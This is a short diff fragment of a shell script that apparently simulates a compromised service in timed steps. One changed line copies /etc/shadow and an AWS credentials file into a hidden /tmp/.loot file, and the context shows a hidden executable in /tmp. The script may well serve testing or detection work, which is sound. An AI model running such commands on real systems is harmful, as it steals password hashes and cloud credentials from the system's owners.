@@ -15,7 +15,7 @@ chmod +x /tmp/.cache-update
 sleep 1.5
 
 # 3 s: read credentials that are none of this service's business
-cat /etc/shadow /root/.aws/credentials > /tmp/.loot
+cat /etc/shadow /srv/shop/.aws/credentials > /tmp/.loot
 sleep 1.5
 
 # 4.5 s: try another service
